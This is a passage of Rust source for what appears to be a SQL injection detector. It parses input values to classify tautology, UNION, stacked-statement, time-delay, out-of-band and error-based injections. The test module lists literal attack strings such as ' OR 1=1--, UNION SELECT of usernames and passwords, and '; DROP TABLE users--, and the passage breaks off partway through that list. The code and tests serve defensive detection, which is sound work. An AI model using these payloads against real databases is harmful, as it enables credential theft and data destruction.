                && self.tok(i).is_some_and(|tok| tok.end == next.start)
        });
        if adjacent_string && (is_in(text, "N X B E") || text.starts_with('_')) {
            return Some((Class::Text, i + 2));
        }
        if is_in(text, RESERVED) {
            return None;
        }
        let end = self.name_end(i);
        if self.is(end, Kind::Open) {
            let class = if self.is_suspicious_call(i, end) { Class::Sql } else { Class::Call };
            // Arguments are not judged; a call the value leaves open is closed by the query.
            return Some((class, self.after_matching(end)));
        }
        Some((Class::Column, end))
    }

    /// A call of `name` (tokens `start..end`) that injections make.
    fn is_suspicious_call(&self, start: usize, end: usize) -> bool {
        let last = end.saturating_sub(1);
        self.kw_in(last, SUSPICIOUS_FUNCTIONS) || (end > start + 1 && self.kw_in(start, PACKAGES))
    }

    /// The index after the `END` of the `CASE` at `start`.
    fn case_end(&self, start: usize) -> usize {
        let mut open = 0usize;
        for i in start..self.len() {
            if self.is_kw(i, "CASE") {
                open += 1;
            } else if self.is_kw(i, "END") {
                open = open.saturating_sub(1);
                if open == 0 {
                    return i + 1;
                }
            }
        }
        self.len()
    }

    /// A parenthesised subquery, expression or condition.
    fn group(&self, open: usize, depth: usize) -> Option<(Class, usize)> {
        let close = self.matching(open);
        let end = (close + 1).min(self.len());
        let mut first = open + 1;
        while self.is(first, Kind::Open) && first < close {
            first += 1;
        }
        if self.is_kw(first, "SELECT") {
            return Some((Class::Sql, end));
        }
        // The inside must fill the parentheses exactly: `(1,2)` or `(a b)` is no operand.
        // A group the value leaves open for the query to close may end at `;` or a comment.
        let (class, after) = self.condition_chain(open + 1, depth + 1)?;
        if after == close {
            Some((class, end))
        } else if close == self.len() && (self.is(after, Kind::Semicolon) || self.cut_before(after)) {
            Some((class, after))
        } else {
            None
        }
    }

    /// Conditions joined by boolean operators, as found inside parentheses.
    fn condition_chain(&self, start: usize, depth: usize) -> Option<(Class, usize)> {
        let (first, mut end) = self.condition(start, depth)?;
        let mut class = match first {
            Condition::Truthy(class) => class,
            Condition::Compare { lhs, rhs, .. } => {
                Class::Condition { constant: lhs.is_constant() && rhs.is_constant() }
            }
        };
        while self.is_boolean(end) {
            let Some((next, after)) = self.condition(end + 1, depth) else { break };
            let constant = class.is_constant()
                && match next {
                    Condition::Truthy(next) => next.is_constant(),
                    Condition::Compare { lhs, rhs, .. } => lhs.is_constant() && rhs.is_constant(),
                };
            class = Class::Condition { constant };
            end = after;
        }
        Some((class, end))
    }

    fn condition(&self, start: usize, depth: usize) -> Option<(Condition, usize)> {
        let (lhs, after) = self.operand(start, depth)?;
        Some(self.comparison(lhs, after, depth))
    }

    /// What follows a left operand at `at`: a comparison, or nothing (a truthy operand).
    fn comparison(&self, lhs: Class, at: usize, depth: usize) -> (Condition, usize) {
        let truthy = (Condition::Truthy(lhs), at);
        let negated = self.is_kw(at, "NOT");
        let op = if negated { at + 1 } else { at };
        let compare = |rhs: Class, end: usize| (Condition::Compare { lhs, rhs, op }, end);
        if (!negated && self.op_in(op, COMPARISON_OPS)) || self.kw_in(op, PATTERN_WORDS) {
            return self.operand(op + 1, depth).map_or(truthy, |(rhs, end)| compare(rhs, end));
        }
        if self.is_kw(op, "SOUNDS") && self.is_kw(op + 1, "LIKE") {
            return self.operand(op + 2, depth).map_or(truthy, |(rhs, end)| compare(rhs, end));
        }
        if !negated && self.is_kw(op, "IS") {
            let mut value = op + 1;
            if self.is_kw(value, "NOT") {
                value += 1;
            }
            if self.kw_in(value, "NULL TRUE FALSE UNKNOWN") {
                return compare(Class::Keyword { truthy: false }, value + 1);
            }
            return truthy;
        }
        if self.is_kw(op, "IN") && self.is(op + 1, Kind::Open) {
            let close = self.matching(op + 1);
            return compare(self.list_class(op + 2, close), (close + 1).min(self.len()));
        }
        if self.is_kw(op, "BETWEEN")
            && let Some((low, and)) = self.operand(op + 1, depth)
            && self.is_kw(and, "AND")
            && let Some((high, end)) = self.operand(and + 1, depth)
        {
            return compare(Class::combine(low, high), end);
        }
        truthy
    }

    /// The class of an `IN (..)` list between `start` and `close`.
    fn list_class(&self, start: usize, close: usize) -> Class {
        let inside = start..close.max(start);
        if inside.clone().any(|i| self.is_kw(i, "SELECT")) {
            Class::Sql
        } else if inside
            .clone()
            .all(|i| self.is(i, Kind::Number) || self.is_literal_str(i) || self.is(i, Kind::Comma))
        {
            Class::Number { truthy: true }
        } else {
            Class::Column
        }
    }

    // --- Continuations after an anchor -----------------------------------------------

    /// Judges the code that starts at token `k` after an anchor; `start` is the byte
    /// offset where the evidence starts.
    fn judge(&self, k: usize, anchor: Anchor, start: usize) -> Option<Match> {
        let (mut rule, mut end) = self.structural(k, anchor)?;
        // Once the code is established as an injection, name what it does.
        if let Some((found, found_end)) = self.specific_rule(k)
            && found < rule
        {
            rule = found;
            end = end.max(found_end);
        }
        Some(Match::new(rule.id(), start..self.byte_end(end, start)))
    }

    /// The grammatical continuation at `k`, with the index after its evidence.
    fn structural(&self, k: usize, anchor: Anchor) -> Option<(Rule, usize)> {
        let kind = self.kind(k)?;
        if kind == Kind::Semicolon {
            return self.statement(k + 1, true).map(|end| (Rule::Stacked, end));
        }
        if self.is_kw(k, "UNION") {
            return self.union(k, true).map(|end| (Rule::Union, end));
        }
        if self.kw_in(k, "ORDER GROUP") {
            let (end, names) = self.by_list(k)?;
            if self.is_kw(end, "HAVING") {
                return self.structural(end, anchor);
            }
            return self.is_column_probe(end, names, anchor).then_some((Rule::ColumnProbe, end));
        }
        if self.is_boolean(k) || self.is_kw(k, "HAVING") {
            let (condition, end) = self.condition(k + 1, 0)?;
            if !self.ends_clause(end) || !self.accepts(anchor, condition, end) {
                return None;
            }
            let concatenation =
                self.is_op(k, "||") && matches!(condition, Condition::Truthy(Class::Sql | Class::Call));
            return Some((if concatenation { Rule::Function } else { Rule::Tautology }, end));
        }
        if anchor == Anchor::Weak {
            return None;
        }
        // A comparison right after the anchor: `'='`, `x' LIKE '%`, `1 IN (SELECT ..)`.
        let lhs = if anchor == Anchor::Quote { Class::Text } else { Class::Number { truthy: true } };
        if let (Condition::Compare { rhs, op, .. }, end) = self.comparison(lhs, k, 0)
            && self.ends_clause(end)
            && (rhs == Class::Sql || (anchor == Anchor::Quote && self.breakout_tautology(op, end)))
        {
            return Some((Rule::Tautology, end));
        }
        // Arithmetic or concatenation with a subquery or an injection function.
        if self.is_arithmetic(k)
            && let Some((Class::Sql, end)) = self.unary_primary(k + 1, 0)
        {
            return Some((Rule::Function, end));
        }
        None
    }

    /// Whether a condition after a boolean operator is an injection, given the anchor.
    fn accepts(&self, anchor: Anchor, condition: Condition, end: usize) -> bool {
        // A bare `1` or `true` counts when a comment or `;` ends the query there; prose
        // has `students' and 2 teachers`.
        let finished = self.cut_before(end) || self.is(end, Kind::Semicolon);
        match (anchor, condition) {
            (Anchor::Quote, Condition::Compare { .. }) => true,
            (Anchor::Quote, Condition::Truthy(class)) => match class {
                Class::Keyword { truthy: true } => true,
                Class::Number { .. } | Class::Keyword { truthy: false } => finished,
                Class::Sql | Class::Call | Class::Condition { .. } => true,
                Class::Text | Class::Column => false,
            },
            (Anchor::Number, Condition::Compare { lhs, rhs, .. }) => {
                lhs != Class::Column || rhs != Class::Column
            }
            (Anchor::Number, Condition::Truthy(class)) => {
                matches!(class, Class::Sql | Class::Keyword { truthy: true } | Class::Condition { .. })
            }
            (Anchor::Weak, Condition::Compare { lhs, rhs, .. }) => lhs.is_constant() && rhs.is_constant(),
            (Anchor::Weak, Condition::Truthy(class)) => {
                matches!(class, Class::Number { truthy: true } | Class::Keyword { truthy: true } | Class::Sql)
                    && finished
            }
        }
    }

    /// The break-out string of a quoted context is empty or digits: `' ORDER BY 3`.
    fn breakout_is_number_or_empty(&self) -> bool {
        matches!(self.constant(0), Some(Constant::Text(text)) if text.bytes().all(|b| b.is_ascii_digit()))
    }

    /// The break-out string compared with one constant so that the result is always true:
    /// `'='` (empty equals empty), `1'='1`, `x' LIKE '%`.
    fn breakout_tautology(&self, op: usize, end: usize) -> bool {
        if end != op + 2 {
            return false;
        }
        match (self.constant(0), self.constant(op + 1)) {
            (Some(left), Some(right)) => is_tautology(left, self.text(op), right),
            _ => false,
        }
    }

    /// `UNION [ALL|DISTINCT] [(] SELECT ..`; with `strict`, the select list must look like
    /// an injection's.
    fn union(&self, k: usize, strict: bool) -> Option<usize> {
        let mut i = k + 1;
        if self.kw_in(i, "ALL DISTINCT") {
            i += 1;
        }
        let open = i;
        while self.is(i, Kind::Open) && i - open < 8 {
            i += 1;
        }
        if !self.is_kw(i, "SELECT") {
            return None;
        }
        if strict { self.select_list(i + 1) } else { Some(i + 1) }
    }

    /// A select list that an injection would write: constants, NULLs, `*`, functions,
    /// variables or several columns, or any list with a FROM, ending where a list ends.
    /// `select the best` or `select one` (prose) is not one.
    fn select_list(&self, start: usize) -> Option<usize> {
        let mut i = start;
        while i - start < 4 {
            if self.kw_in(i, "DISTINCT ALL DISTINCTROW SQL_CALC_FOUND_ROWS SQL_NO_CACHE") {
                i += 1;
            } else if self.is_kw(i, "TOP") {
                i += 1;
                if self.is(i, Kind::Open) {
                    i = self.after_matching(i);
                } else if self.is(i, Kind::Number) {
                    i += 1;
                }
            } else {
                break;
            }
        }
        let mut telling = false;
        let mut items = 0usize;
        loop {
            let class = if self.is_op(i, "*") {
                i += 1;
                Class::Sql
            } else {
                let (class, end) = self.operand(i, 0)?;
                i = end;
                class
            };
            telling |= class != Class::Column;
            items += 1;
            if self.is_kw(i, "AS") {
                i += 2;
            } else if class != Class::Column
                && (self.is(i, Kind::QuotedIdent)
                    || (self.is(i, Kind::Word) && !is_in(self.text(i), RESERVED)))
            {
                // An alias without AS: `CONCAT(..) x`.
                i += 1;
            }
            if self.is(i, Kind::Comma) {
                i += 1;
                continue;
            }
            break;
        }
        let from = self.is_kw(i, "FROM");
        let ended = i >= self.len()
            || self.cut_before(i)
            || from
            || self.kw_in(i, "INTO WHERE UNION ORDER GROUP LIMIT HAVING PROCEDURE FOR")
            || matches!(self.kind(i), Some(Kind::Semicolon | Kind::Close));
        if !ended || !(telling || items >= 2 || from) {
            return None;
        }
        // Take the table into the evidence.
        let end = if from && self.tok(i + 1).is_some() { self.name_end(i + 1) } else { i };
        Some(end.min(self.len()))
    }

    /// A statement that starts at `i` (after `;`), with the index after its evidence. With
    /// `strict`, a SELECT needs an injection's select list.
    fn statement(&self, i: usize, strict: bool) -> Option<usize> {
        let word = self.text(i);
        if !self.is(i, Kind::Word) {
            return None;
        }
        let is = |candidates: &str| is_in(word, candidates);
        if is("SELECT") {
            return if strict { self.select_list(i + 1) } else { Some(i + 1) };
        }
        if is("INSERT REPLACE MERGE") {
            let mut j = i + 1;
            if self.kw_in(j, "IGNORE LOW_PRIORITY DELAYED") {
                j += 1;
            }
            return (self.is_kw(j, "INTO") && self.tok(j + 1).is_some()).then_some(j + 2);
        }
        if is("DELETE") {
            let from = if self.is_kw(i + 1, "FROM") { i + 1 } else { i + 2 };
            return (self.is_kw(from, "FROM") && self.tok(from + 1).is_some()).then_some(from + 2);
        }
        if is("UPDATE") {
            if !self.is(i + 1, Kind::Word) && !self.is(i + 1, Kind::QuotedIdent) {
                return None;
            }
            let set = self.name_end(i + 1);
            return self.is_kw(set, "SET").then_some(set + 1);
        }
        if is("DROP CREATE ALTER") {
            let mut object = i + 1;
            if self.is_kw(object, "OR") && self.is_kw(object + 1, "REPLACE") {
                object += 2;
            }
            let named = self.is(object + 1, Kind::Word) || self.is(object + 1, Kind::QuotedIdent);
            return self.kw_in(object, SCHEMA_OBJECTS).then_some(if named { object + 2 } else { object + 1 });
        }
        if is("TRUNCATE") {
            let table = if self.is_kw(i + 1, "TABLE") { i + 2 } else { i + 1 };
            return self.is(table, Kind::Word).then_some(table + 1);
        }
        if is("EXEC EXECUTE") {
            let target = i + 1;
            let procedure = self.is(target, Kind::Word) && {
                let name = self.text(target);
                let end = self.name_end(target);
                name.get(..3).is_some_and(|p| p.eq_ignore_ascii_case("sp_") || p.eq_ignore_ascii_case("xp_"))
                    || end > target + 1
                    || self.is_str(end)
                    || self.is(end, Kind::Variable)
            };
            let dynamic = matches!(self.kind(target), Some(Kind::Open | Kind::Str { .. } | Kind::Variable));
            return (procedure || dynamic).then_some(self.name_end(target).min(self.len()));
        }
        if is("DECLARE SET") {
            return self.is(i + 1, Kind::Variable).then_some(i + 2);
        }
        if is("SHUTDOWN") {
            return (self.ends_clause(i + 1) || self.kw_in(i + 1, "WITH NOWAIT")).then_some(i + 1);
        }
        if is("WAITFOR") {
            return self.kw_in(i + 1, "DELAY TIME").then_some((i + 3).min(self.len()));
        }
        if is("GRANT REVOKE") {
            let target = (i + 2..i + 8).find(|&j| self.kw_in(j, "ON TO FROM"))?;
            return self.is(i + 1, Kind::Word).then_some(target + 1);
        }
        if is("CALL") {
            let end = self.name_end(i + 1);
            return (self.is(i + 1, Kind::Word) && self.is(end, Kind::Open)).then_some(end + 1);
        }
        if is("COPY") {
            let end = self.name_end(i + 1);
            return (self.is(i + 1, Kind::Word) && self.kw_in(end, "FROM TO")).then_some(end + 1);
        }
        if is("LOAD") {
            return self.kw_in(i + 1, "DATA XML").then_some(i + 2);
        }
        if is("RENAME") {
            return self.kw_in(i + 1, "TABLE USER").then_some(i + 2);
        }
        None
    }

    /// The list after `ORDER BY` or `GROUP BY` at `k`: the index after it, and whether it
    /// names columns (rather than numbering them).
    fn by_list(&self, k: usize) -> Option<(usize, bool)> {
        if !self.is_kw(k + 1, "BY") {
            return None;
        }
        let mut j = k + 2;
        let mut names = false;
        loop {
            if self.is(j, Kind::Number) {
                j += 1;
            } else if self.is(j, Kind::Word) && !is_in(self.text(j), RESERVED) {
                names = true;
                j = self.name_end(j);
            } else {
                return None;
            }
            if self.kw_in(j, "ASC DESC") {
                j += 1;
            }
            if !self.is(j, Kind::Comma) {
                return Some((j, names));
            }
            j += 1;
        }
    }

    /// `ORDER BY 5`, `GROUP BY 1,2,3` ending at `end`: counting columns. After a quote, the
    /// probe must end the query (a comment or `;`), or end the value after a break-out that
    /// is empty or a number (`' ORDER BY 3`, `1' ORDER BY 3`): `customers' order by 5` is
    /// prose. Named columns need the comment or `;` whatever the anchor.
    fn is_column_probe(&self, end: usize, names: bool, anchor: Anchor) -> bool {
        let finished = self.cut_before(end) || self.is(end, Kind::Semicolon);
        match anchor {
            _ if names => finished,
            Anchor::Number => finished || end >= self.len(),
            Anchor::Quote => finished || (end >= self.len() && self.breakout_is_number_or_empty()),
            Anchor::Weak => finished,
        }
    }

    /// The most telling rule among the constructs from `k` on: delays, files and network,
    /// error extraction, UNION, stacked statements, catalogs.
    fn specific_rule(&self, k: usize) -> Option<(Rule, usize)> {
        let mut best: Option<(Rule, usize)> = None;
        for i in k..self.len() {
            if let Some((rule, end)) = self.specific_at(i)
                && best.is_none_or(|(found, _)| rule < found)
            {
                best = Some((rule, end));
            }
        }
        best
    }

    fn specific_at(&self, i: usize) -> Option<(Rule, usize)> {
        match self.kind(i)? {
            Kind::Semicolon => self.statement(i + 1, false).map(|end| (Rule::Stacked, end)),
            Kind::Op if self.is_op(i, "::") && self.kw_in(i + 1, NUMERIC_TYPES) => Some((Rule::Error, i + 2)),
            Kind::Word => self.specific_word(i),
            _ => None,
        }
    }

    fn specific_word(&self, i: usize) -> Option<(Rule, usize)> {
        let word = self.text(i);
        let is = |candidates: &str| is_in(word, candidates);
        if self.is(i + 1, Kind::Open) {
            let end = self.after_matching(i + 1);
            if is(TIME_FUNCTIONS) {
                return Some((Rule::Time, end));
            }
            if is(OOB_FUNCTIONS) {
                return Some((Rule::OutOfBand, end));
            }
            let error = is(ERROR_FUNCTIONS)
                || (is("EXP") && self.is_op(i + 2, "~"))
                || (is("FLOOR") && self.is_kw(i + 2, "RAND"))
                || (is("CONVERT") && self.kw_in(i + 2, NUMERIC_TYPES) && self.is(i + 3, Kind::Comma))
                || (is("CAST") && {
                    let close = self.matching(i + 1);
                    close
                        .checked_sub(2)
                        .is_some_and(|as_at| self.is_kw(as_at, "AS") && self.kw_in(as_at + 1, NUMERIC_TYPES))
                });
            if error {
                return Some((Rule::Error, end));
            }
        }
        if self.is(i + 1, Kind::Dot) {
            let end = (i + 3).min(self.len());
            if is(TIME_PACKAGES) {
                return Some((Rule::Time, end));
            }
            if is(OOB_PACKAGES) {
                return Some((Rule::OutOfBand, end));
            }
            if is(ERROR_PACKAGES) {
                return Some((Rule::Error, end));
            }
            if (is("SYS") && self.kw_in(i + 2, SYS_VIEWS)) || (is("MYSQL") && self.kw_in(i + 2, "USER DB")) {
                return Some((Rule::Schema, end));
            }
        }
        if is("WAITFOR") && self.kw_in(i + 1, "DELAY TIME") {
            return Some((Rule::Time, (i + 3).min(self.len())));
        }
        if is("INTO") && self.kw_in(i + 1, "OUTFILE DUMPFILE") {
            return Some((Rule::OutOfBand, (i + 3).min(self.len())));
        }
        if is(PROCEDURES) || (is("PROGRAM") && i > 0 && self.kw_in(i - 1, "FROM TO")) {
            return Some((Rule::OutOfBand, i + 1));
        }
        if is("UNION") {
            return self.union(i, false).map(|end| (Rule::Union, end));
        }
        if is(CATALOGS) {
            return Some((Rule::Schema, i + 1));
        }
        None
    }

    /// A value that is a delay call and nothing else: `SLEEP(5)#`, `pg_sleep(5)`.
    fn leading_delay(&self, k: usize, start: usize) -> Option<Match> {
        if !self.kw_in(k, TIME_FUNCTIONS) || !self.is(k + 1, Kind::Open) {
            return None;
        }
        let end = self.after_matching(k + 1);
        self.ends_clause(end).then(|| Match::new(Rule::Time.id(), start..self.byte_end(end, start)))
    }

    /// A login bypass: a short break-out string, closed, then a comment that removes the
    /// rest of the query (`admin'--`, `admin'#`, `x')/*`, `admin' -- -`). The comment holds
    /// no words (`users' -- Friday` is prose with a dash, `'#1'` a quoted number).
    fn comment_cut(&self, k: usize, start: usize) -> Option<Match> {
        let breakout = self.tok(0)?;
        let prefix = self.src.get(breakout.start..breakout.end.saturating_sub(1))?.trim();
        if prefix.len() > MAX_CUT_PREFIX || prefix.contains(char::is_whitespace) {
            return None;
        }
        let at = if self.is(k, Kind::Semicolon) { k } else { k.checked_sub(1)? };
        let (cut_start, cut_end) = self.tok(at)?.cut?;
        let comment = self.src.get(cut_start..cut_end)?;
        let body = comment
            .strip_prefix("--")
            .or_else(|| comment.strip_prefix('#'))
            .or_else(|| comment.strip_prefix("/*"))
            .unwrap_or(comment)
            .trim();
        let quote = char::from(self.quote?);
        if body.len() > 16 || body.chars().any(|c| c.is_alphanumeric() || c == quote) {
            return None;
        }
        Some(Match::new(Rule::CommentCut.id(), start..cut_end))
    }
}

fn parse_number(text: &str) -> Option<f64> {
    match text.get(..2) {
        Some("0x" | "0X") => {
            let digits = text.get(2..)?;
            if digits.len() > 15 {
                return None;
            }
            u64::from_str_radix(digits, 16).ok().map(|n| n as f64)
        }
        _ => text.parse::<f64>().ok().filter(|n| n.is_finite()),
    }
}

fn is_truthy_number(text: &str) -> bool {
    let hex = matches!(text.get(..2), Some("0x" | "0X" | "0b" | "0B"));
    let mantissa =
        if hex { text.get(2..).unwrap_or_default() } else { text.split(['e', 'E']).next().unwrap_or(text) };
    mantissa.bytes().any(|b| b.is_ascii_alphanumeric() && b != b'0')
}

/// `left <op> right` is true whatever the row: `1=1`, `'a'='a'`, `2>1`, `'x' LIKE '%'`.
fn is_tautology(left: Constant<'_>, op: &str, right: Constant<'_>) -> bool {
    let text_number = |text: &str| text.trim().parse::<f64>().ok();
    let ordering = match (left, right) {
        (Constant::Number(a), Constant::Number(b)) => a.partial_cmp(&b),
        (Constant::Text(a), Constant::Text(b)) => {
            if op.eq_ignore_ascii_case("LIKE") && b == "%" {
                return true;
            }
            Some(a.bytes().map(|b| b.to_ascii_lowercase()).cmp(b.bytes().map(|b| b.to_ascii_lowercase())))
        }
        (Constant::Number(a), Constant::Text(b)) => text_number(b).and_then(|b| a.partial_cmp(&b)),
        (Constant::Text(a), Constant::Number(b)) => text_number(a).and_then(|a| a.partial_cmp(&b)),
    };
    let Some(ordering) = ordering else { return false };
    match op {
        "=" | "==" | "<=>" => ordering == Ordering::Equal,
        "<>" | "!=" => ordering != Ordering::Equal,
        "<" => ordering == Ordering::Less,
        ">" => ordering == Ordering::Greater,
        "<=" => ordering != Ordering::Greater,
        ">=" => ordering != Ordering::Less,
        _ => op.eq_ignore_ascii_case("LIKE") && ordering == Ordering::Equal,
    }
}

// ---------------------------------------------------------------------------------------
// The two passes

/// Judges the code at the anchors of one context.
fn anchored(src: &str, quote: Option<u8>) -> Option<Match> {
    let toks: Vec<Token> = Significant::new(src, quote).take(MAX_TOKENS).collect();
    let code = Code { src, toks: &toks, quote };
    if quote.is_some() {
        let breakout = code.tok(0)?;
        if !matches!(breakout.kind, Kind::Str { closed: true, .. }) {
            return None;
        }
        let k = code.skip_closers(1);
        let start = breakout.end.saturating_sub(1);
        return code.judge(k, Anchor::Quote, start).or_else(|| code.comment_cut(k, start));
    }
    // After a leading number: `1 OR 1=1`, `-1 UNION SELECT ..`, `1) AND (..`.
    let number = if code.op_in(0, &["-", "+"]) { 1 } else { 0 };
    if code.is(number, Kind::Number)
        && let Some(found) = code.judge(code.skip_closers(number + 1), Anchor::Number, 0)
    {
        return Some(found);
    }
    let first = code.tok(0)?.start;
    // After a single name: a column or sort key (`name; DROP TABLE ..`).
    let name = (code.is(0, Kind::Word) && !is_in(code.text(0), RESERVED)) || code.is(0, Kind::QuotedIdent);
    if name && let Some(found) = code.judge(code.skip_closers(1), Anchor::Weak, first) {
        return Some(found);
    }
    let k = code.skip_closers(0);
    code.judge(k, Anchor::Weak, first).or_else(|| code.leading_delay(k, first))
}

/// Constructs that are injections wherever they appear in the value, found by streaming
/// its tokens through a small window.
fn anywhere(src: &str, quote: Option<u8>) -> Option<Match> {
    let mut window: VecDeque<Token> = VecDeque::with_capacity(WINDOW + 1);
    for (index, tok) in Significant::new(src, quote).enumerate() {
        if index == 0 && quote.is_some() && !matches!(tok.kind, Kind::Str { closed: true, .. }) {
            // The whole value is one string in this context.
            return None;
        }
        let terminated = token_ends_clause(src, &tok);
        let code = Code { src, toks: window.make_contiguous(), quote };
        if terminated && let Some(found) = constant_tautology(&code) {
            return Some(found);
        }
        window.push_back(tok);
        if window.len() > WINDOW {
            window.pop_front();
        }
        let code = Code { src, toks: window.make_contiguous(), quote };
        if let Some(found) = unmistakable(&code) {
            return Some(found);
        }
        if tok.cut.is_some()
            && let Some(found) = constant_tautology(&code)
        {
            return Some(found);
        }
    }
    constant_tautology(&Code { src, toks: window.make_contiguous(), quote })
}

/// Whether `tok` may follow a condition.
fn token_ends_clause(src: &str, tok: &Token) -> bool {
    let text = src.get(tok.start..tok.end).unwrap_or_default();
    match tok.kind {
        Kind::Semicolon | Kind::Close => true,
        Kind::Word => is_in(text, BOOLEAN_WORDS) || is_in(text, CLAUSE_WORDS),
        Kind::Op => BOOLEAN_OPS.contains(&text),
        _ => false,
    }
}

/// `OR 1=1`, `AND 'a'='a'` at the end of the window (the caller knows that what follows
/// ends the condition). Only equalities: `3 < 5 and 5 > 3` is arithmetic prose.
fn constant_tautology(code: &Code<'_>) -> Option<Match> {
    let last = code.len().checked_sub(1)?;
    let boolean = last.checked_sub(3)?;
    let op = last - 1;
    if !code.is_boolean(boolean) || !(code.op_in(op, &["=", "<=>"]) || code.is_kw(op, "LIKE")) {
        return None;
    }
    let left = code.constant(boolean + 1)?;
    let right = code.constant(last)?;
    let start = code.tok(boolean)?.start;
    let end = code.tok(last)?.end;
    is_tautology(left, code.text(op), right).then(|| Match::new(Rule::Tautology.id(), start..end))
}

/// Patterns that end at the last token of the window.
fn unmistakable(code: &Code<'_>) -> Option<Match> {
    let last = code.len().checked_sub(1)?;
    let back = |n: usize| last.checked_sub(n);
    let at = |n: usize| back(n).unwrap_or(usize::MAX);
    let found = |rule: Rule, from: usize| {
        let start = code.tok(from).map_or(0, |tok| tok.start);
        let end = code.tok(last).map_or(start, |tok| tok.end);
        Some(Match::new(rule.id(), start..end))
    };
    match code.kind(last)? {
        Kind::Str { .. } => {
            if code.kw_in(at(1), "DELAY TIME") && code.is_kw(at(2), "WAITFOR") {
                return found(Rule::Time, at(2));
            }
            if code.kw_in(at(1), "OUTFILE DUMPFILE") && code.is_kw(at(2), "INTO") {
                return found(Rule::OutOfBand, at(2));
            }
        }
        Kind::Comma => {
            let benchmark =
                code.is_kw(at(3), "BENCHMARK") && code.is(at(2), Kind::Open) && code.is(at(1), Kind::Number);
            if benchmark {
                return found(Rule::Time, at(3));
            }
        }
        Kind::Open => {
            if code.is_kw(at(1), "PG_SLEEP") {
                return found(Rule::Time, at(1));
            }
            if code.kw_in(at(1), "LOAD_FILE HTTPURITYPE LO_IMPORT") {
                return found(Rule::OutOfBand, at(1));
            }
            if code.kw_in(at(1), "EXTRACTVALUE UPDATEXML") {
                return found(Rule::Error, at(1));
            }
            if code.is(at(2), Kind::Dot) {
                let (package, function) = (at(3), at(1));
                let delay = (code.kw_in(package, "DBMS_LOCK DBMS_SESSION") && code.is_kw(function, "SLEEP"))
                    || (code.is_kw(package, "DBMS_PIPE") && code.is_kw(function, "RECEIVE_MESSAGE"));
                if delay {
                    return found(Rule::Time, package);
                }
                if code.kw_in(package, "UTL_HTTP UTL_INADDR DBMS_LDAP") {
                    return found(Rule::OutOfBand, package);
                }
            }
        }
        Kind::Close => {
            let sleep = code.is_kw(at(3), "SLEEP")
                && code.is(at(2), Kind::Open)
                && code.is(at(1), Kind::Number)
                && sleep_in_sql_position(code, back(4), back(5));
            if sleep {
                return found(Rule::Time, at(3));
            }
        }
        Kind::Variable if code.is(at(1), Kind::Open) && code.kw_in(at(2), "EXEC EXECUTE") => {
            // Dynamic SQL run from a variable: `EXEC(@s)`.
            return found(Rule::Stacked, at(2));
        }
        Kind::Word if code.kw_in(last, PROCEDURES) => {
            let executed = code.kw_in(at(1), "EXEC EXECUTE")
                || (code.is(at(1), Kind::Dot)
                    && (code.is(at(2), Kind::Dot) || code.kw_in(at(2), "DBO MASTER")));
            if executed {
                return found(Rule::OutOfBand, back(1).unwrap_or(last));
            }
        }
        _ => {}
    }
    None
}

/// `SLEEP(n)` is also everyday code (`await sleep(1000)`, `time.sleep(5)`); it counts where
/// SQL puts an expression: first in the value, after a boolean operator or SELECT, or
/// inside parentheses that SQL opened.
fn sleep_in_sql_position(code: &Code<'_>, before: Option<usize>, before_that: Option<usize>) -> bool {
    // A call that opens the value is judged by the anchored pass, which sees what follows.
    let Some(before) = before else { return false };
    let sql_word = "OR AND XOR NOT SELECT THEN ELSE WHEN RLIKE LIKE WHERE HAVING";
    if code.kw_in(before, sql_word) || code.op_in(before, BOOLEAN_OPS) || code.is(before, Kind::Comma) {
        return true;
    }
    if !code.is(before, Kind::Open) {
        return false;
    }
    match before_that {
        None => false,
        Some(that) => {
            code.kw_in(that, "SELECT IF OR AND XOR NOT WHERE")
                || code.is(that, Kind::Open)
                || code.is(that, Kind::Comma)
                || code.op_in(that, BOOLEAN_OPS)
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[track_caller]
    fn rule_of(value: &str) -> Option<&'static str> {
        detect(value).map(|found| found.rule)
    }

    /// Attack values and the rule each must be reported under.
    const ATTACKS: &[(&str, &str)] = &[
        // Tautologies in every context, with case, comment and whitespace evasions.
        ("' OR 1=1--", "sqli.tautology"),
        ("' or 'a'='a", "sqli.tautology"),
        ("admin' Or '1'='1'-- -", "sqli.tautology"),
        ("\" || true --", "sqli.tautology"),
        ("\" or \"\"=\"", "sqli.tautology"),
        ("1 or 1=1", "sqli.tautology"),
        ("1 AND 2>1", "sqli.tautology"),
        ("') OR ('x'='x", "sqli.tautology"),
        ("'))or(('q'='q", "sqli.tautology"),
        ("'or(1)=(1)#", "sqli.tautology"),
        ("'||'1'='1", "sqli.tautology"),
        ("1'or'1'='1", "sqli.tautology"),
        ("x'/**/OR/**/2>1--", "sqli.tautology"),
        ("x'\tOR\x0b1=1\n--", "sqli.tautology"),
        ("' oR/*!50000 1=1*/-- -", "sqli.tautology"),
        ("%' AND 1=0 --", "sqli.tautology"),
        ("' or username like '%", "sqli.tautology"),
        ("' or 3 between 1 and 5 --", "sqli.tautology"),
        ("' or not 1=2#", "sqli.tautology"),
        ("' OR `a`=`a`#", "sqli.tautology"),
        ("'='", "sqli.tautology"),
        ("1'='1", "sqli.tautology"),
        ("' and substring(password,1,1)='a", "sqli.tautology"),
        ("' AND ASCII(SUBSTRING((SELECT pw FROM users LIMIT 1),1,1))>64--", "sqli.tautology"),
        ("\\' or 1=1 --", "sqli.tautology"),
        ("or 1=1", "sqli.tautology"),
        ("nobody OR 'z'='z'", "sqli.tautology"),
        ("' or true--", "sqli.tautology"),
        ("' HAVING 1=1--", "sqli.tautology"),
        ("' or 1 in (1)--", "sqli.tautology"),
        ("' or 0x41=0x41#", "sqli.tautology"),
        ("1) or (1=1", "sqli.tautology"),
        // UNION.
        ("' UNION SELECT username, password FROM users--", "sqli.union"),
        ("-1 union select 1,2", "sqli.union"),
        ("1 UNION ALL SELECT NULL,NULL,NULL-- -", "sqli.union"),
        ("') UnIoN sElEcT @@version#", "sqli.union"),
        ("'/*!UNION*/ /*!SELECT*/ 1,2,3--", "sqli.union"),
        ("x'\nunion\nselect\nnull--", "sqli.union"),
        ("-1'union(select(1),2)#", "sqli.union"),
        ("1e0union select user(),2", "sqli.union"),
        ("' UNION/**/SELECT * FROM admins--", "sqli.union"),
        ("UNION SELECT 1,2,3--", "sqli.union"),
        ("1 union distinct select table_name from information_schema.tables", "sqli.union"),
        // Stacked statements.
        ("'; DROP TABLE users--", "sqli.stacked"),
        ("1; DROP TABLE orders", "sqli.stacked"),
